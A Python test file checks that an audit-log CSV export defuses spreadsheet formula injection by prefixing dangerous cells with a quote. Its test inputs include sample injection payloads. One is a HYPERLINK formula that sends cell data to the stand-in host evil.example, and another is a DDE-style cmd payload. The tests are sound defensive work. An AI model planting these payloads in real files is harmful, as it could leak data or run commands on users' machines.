"""CSV exports of the audit log neutralise cells a spreadsheet would run as a
formula (OWASP CSV injection): values starting with = + - @ tab or CR."""

from __future__ import annotations

import csv
import io

import pytest

from audit import services as audit
from audit.export import csv_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_formula_prefixes_get_a_quote(value):
    assert csv_cell(value) == "'" + value


def test_plain_values_and_numbers_are_unchanged():
    assert csv_cell("alice") == "alice"
    assert csv_cell(-5) == -5
    assert csv_cell(None) is None


def test_audit_csv_export_neutralises_tenant_controlled_cells(cast, alice_client):
    audit.record(
        action="api_key:create",
        outcome="success",
        org=cast.acme,
        actor_label='=HYPERLINK("http://evil.example","click")',
        target_type="keys.apikey",
        target_id="@SUM(1+1)",
    )
    response = alice_client.get("/api/v1/orgs/acme/audit-logs", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(r for r in rows if r["action"] == "api_key:create")
    assert row["actor_label"] == '\'=HYPERLINK("http://evil.example","click")'
    assert row["target_id"] == "'@SUM(1+1)"
    for cell in (value for r in rows for value in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
